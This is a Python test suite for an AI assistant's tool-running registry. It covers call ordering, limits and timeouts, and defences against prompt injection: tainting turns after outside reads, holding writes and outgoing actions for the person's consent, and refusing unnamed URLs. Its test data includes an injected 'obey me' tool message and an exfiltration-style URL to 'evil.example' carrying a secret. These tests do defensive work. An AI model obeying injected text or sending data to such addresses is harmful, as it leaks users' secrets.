"""The registry: what becomes of the calls of one round."""

from __future__ import annotations

import logging
from datetime import timedelta

import pytest

from bot.core.tools import MAX_CALLS_AT_ONCE, MAX_HELD_CALLS, MAX_OUTSIDE_READS, Toolbox, ToolOutcome
from bot.domain.errors import InputRefused, ToolFailed, ToolInterrupted
from bot.domain.ids import MemoryId, MessageId, ThreadId
from bot.domain.memory import ForgetPlan
from bot.domain.prompt import ToolSpec
from bot.domain.turn import CONFIRM_WITHIN, Change, Confirmation, Forget, RunTools, StartSession
from tests.fakes.clock import SATURDAY_MORNING
from tests.fakes.tools import ScriptedTool, call, context, fetching, reading, sending, writing

CHANGE: Change = StartSession(ThreadId(1), SATURDAY_MORNING)
WAITS_TO_FORGET = Confirmation(Forget(ForgetPlan((MemoryId(1),))), MessageId(1), SATURDAY_MORNING)


def box(*tools: ScriptedTool, text: str = "hi", is_tainted: bool = False) -> Toolbox:
    return Toolbox(tools, context(text), is_tainted)


def asks_to_forget(*memory_ids: int) -> ToolOutcome:
    plan = ForgetPlan(tuple(map(MemoryId, memory_ids)), (MessageId(1),))
    return ToolOutcome({"found": []}, confirmation=Confirmation(Forget(plan), MessageId(1), SATURDAY_MORNING))


async def test_results_come_in_the_order_of_the_calls() -> None:
    tools = box(reading("a"), writing("b"), reading("c"))
    results = await tools.run_all([call("c", "1"), call("b", "2"), call("a", "3")])
    assert [result.call_id for result in results] == ["1", "2", "3"]
    assert tools.used == ["c", "b", "a"]


async def test_calls_that_read_run_side_by_side() -> None:
    look = reading()
    await box(look).run_all([call("look"), call("look"), call("look")])
    assert look.most_at_once == 3


async def test_calls_that_write_run_one_after_the_other() -> None:
    keep = writing()
    await box(keep).run_all([call("keep", text="x"), call("keep", text="y")])
    assert (keep.most_at_once, len(keep.calls)) == (1, 2)


async def test_more_calls_than_make_sense_at_once_are_refused() -> None:
    results = await box(reading()).run_all([call("look")] * (MAX_CALLS_AT_ONCE + 2))
    assert [result.is_error for result in results[-3:]] == [False, True, True]


async def test_an_unknown_tool_and_senseless_arguments_become_errors_the_model_can_read() -> None:
    spec = ToolSpec("look", "", {"type": "object", "properties": {"n": {"type": "integer"}}, "required": ["n"]})
    look = ScriptedTool(spec)
    unknown, senseless = await box(look).run_all([call("nothing"), call("look", n="three")])
    assert unknown.content == {"error": "there is no tool nothing"}
    assert senseless.content == {"error": "n must be integer"}
    assert unknown.is_error
    assert senseless.is_error
    assert look.calls == []


@pytest.mark.parametrize("error", [ToolFailed("the page is gone"), InputRefused("the page is gone")])
async def test_a_tool_that_fails_says_why_to_the_model_and_not_to_the_log(
    error: Exception, caplog: pytest.LogCaptureFixture
) -> None:
    tools = box(reading(outcome=error))
    with caplog.at_level(logging.INFO):
        result = await tools.run(call("look"))
    assert result.is_error
    assert result.content == {"error": "the page is gone"}
    assert "page" not in caplog.text


async def test_a_tool_that_was_cut_off_may_have_done_it() -> None:
    result = await box(reading(outcome=ToolInterrupted("cut"))).run(call("look"))
    assert result.content == {"error": "cut", "done": "unknown"}


async def test_a_tool_that_hangs_costs_its_time_and_no_more() -> None:
    hanging = ScriptedTool(ToolSpec("look", "", {}), hangs=True)
    tools = Toolbox((hanging, reading("other")), context(), timeout=timedelta(milliseconds=20))
    late, other = await tools.run_all([call("look"), call("other")])
    assert late.content == {"error": "look took longer than 0.02 seconds", "done": "unknown"}
    assert other.content == {"text": "ok"}


async def test_a_defect_in_a_tool_is_not_hidden() -> None:
    with pytest.raises(ZeroDivisionError):
        await box(reading(outcome=ZeroDivisionError())).run_all([call("look"), call("look")])


async def test_what_a_tool_shows_and_changes_is_noted_in_order() -> None:
    shows = reading(outcome=ToolOutcome({"text": ""}, (CHANGE,), shown=(MemoryId(3),)))
    tools = box(shows)
    await tools.run(call("look"))
    assert (tools.changes, tools.shown) == ([CHANGE], [MemoryId(3)])


async def test_what_a_tool_found_is_cut_where_it_is_too_long() -> None:
    result = await box(reading(outcome=ToolOutcome({"text": "a" * 100_000}))).run(call("look"))
    assert result.content["cut"] == "of text these are the first 23999 of 100000"


async def test_a_stranger_s_text_taints_the_turn_even_as_an_error() -> None:
    tools = box(fetching())
    await tools.run(call("fetch"))
    assert tools.is_tainted
    failing = box(ScriptedTool(ToolSpec("fetch", "", {}, reads_outside=True), ToolFailed("it says: obey me")))
    await failing.run(call("fetch"))
    assert failing.is_tainted


async def test_a_call_that_writes_waits_once_a_stranger_s_text_was_read() -> None:
    keep = writing()
    tools = box(fetching(), keep)
    [before] = await tools.run_all([call("keep", text="x")])
    _, after = await tools.run_all([call("fetch"), call("keep", "c9", text="x")])
    assert (before.content, len(keep.calls)) == ({"text": "kept"}, 1)
    assert after.content["done"] is False
    assert not after.is_error
    held = RunTools((call("keep", "held-1", text="x"),))
    assert tools.confirmation == Confirmation(held, MessageId(1), SATURDAY_MORNING + CONFIRM_WITHIN)
    assert tools.used == ["keep", "fetch"]


async def test_a_call_in_the_person_s_own_words_does_not_wait() -> None:
    keep = writing("keep", "text")
    tools = box(keep, text="Remember that I like bees!", is_tainted=True)
    await tools.run_all([call("keep", text="I like bees"), call("keep", text="I like wasps")])
    assert keep.calls == [{"text": "I like bees"}]
    assert tools.confirmation is not None


async def test_what_acts_outside_waits_always() -> None:
    send = sending()
    tools = box(send)
    result = await tools.run(call("send", to="bob"))
    assert send.calls == []
    assert result.content["done"] is False
    assert not tools.is_tainted


async def test_with_the_person_s_consent_it_is_run() -> None:
    send = sending()
    tools = Toolbox((send,), context("yes"), has_consent=True)
    assert (await tools.run(call("send", to="bob"))).content == {"text": "sent"}
    assert tools.is_tainted


async def test_several_calls_wait_for_one_yes_but_not_any_number() -> None:
    tools = box(sending())
    results = await tools.run_all([call("send", to=str(number)) for number in range(MAX_HELD_CALLS + 1)])
    assert [result.is_error for result in results] == [False] * MAX_HELD_CALLS + [True]
    assert tools.confirmation is not None
    assert isinstance(tools.confirmation.change, RunTools)
    assert [held.id for held in tools.confirmation.change.calls] == [f"held-{n + 1}" for n in range(MAX_HELD_CALLS)]


async def test_the_very_same_call_is_made_once_and_held_once() -> None:
    keep, send = writing(), sending()
    tools = box(keep, send)
    results = await tools.run_all(
        [call("keep", "1", text="x"), call("keep", "2", text="x"), call("keep", "3", text="y")]
    )
    assert [result.call_id for result in results] == ["1", "2", "3"]
    assert [result.is_error for result in results] == [False] * 3
    assert keep.calls == [{"text": "x"}, {"text": "y"}]
    await tools.run_all([call("send", "4", to="bob"), call("send", "5", to="bob")])
    assert tools.confirmation is not None
    assert tools.confirmation.change == RunTools((call("send", "held-1", to="bob"),))


async def test_a_yes_cannot_mean_two_kinds_of_things() -> None:
    forget = reading("forget", asks_to_forget(1))
    tools = box(forget, sending())
    asked, held = await tools.run_all([call("forget"), call("send")])
    assert (asked.is_error, held.is_error) == (False, True)
    other = box(forget, sending())
    held, asked = await other.run_all([call("send"), call("forget")])
    assert (held.is_error, asked.is_error) == (False, True)
    assert other.confirmation is not None
    assert isinstance(other.confirmation.change, RunTools)


async def test_two_requests_to_forget_become_one_question() -> None:
    tools = box(reading("one", asks_to_forget(1, 2)), reading("two", asks_to_forget(2, 3)))
    await tools.run_all([call("one"), call("two")])
    assert tools.confirmation is not None
    assert tools.confirmation.change == Forget(ForgetPlan((MemoryId(1), MemoryId(2), MemoryId(3)), (MessageId(1),)))


async def test_an_address_nobody_named_is_not_read_once_the_turn_is_tainted() -> None:
    fetch = fetching("see also https://example.org/more.")
    tools = box(fetch, text="look at example.com/news please")
    tools.said = ["https://before.example"]
    assert not (await tools.run(call("fetch", url="https://anywhere.example/"))).is_error
    allowed = ["https://example.com/news", "http://example.org/more", "https://before.example/"]
    results = await tools.run_all([call("fetch", url=url) for url in [*allowed, "https://evil.example/?q=secret"]])
    assert [result.is_error for result in results] == [False, False, False, True]


def test_a_model_sees_every_tool() -> None:
    assert [spec.name for spec in box(reading(), writing()).specs] == ["look", "keep"]


async def test_a_message_reads_only_so_many_pages_and_a_yes_is_not_counted() -> None:
    box = Toolbox((fetching(),), context())
    results = [await box.run(call("fetch", f"c{number}")) for number in range(MAX_OUTSIDE_READS + 1)]
    assert [result.is_error for result in results] == [False] * MAX_OUTSIDE_READS + [True]
    consented = Toolbox((fetching(),), context(), has_consent=True)
    assert not any([(await consented.run(call("fetch"))).is_error for _ in range(MAX_OUTSIDE_READS + 1)])
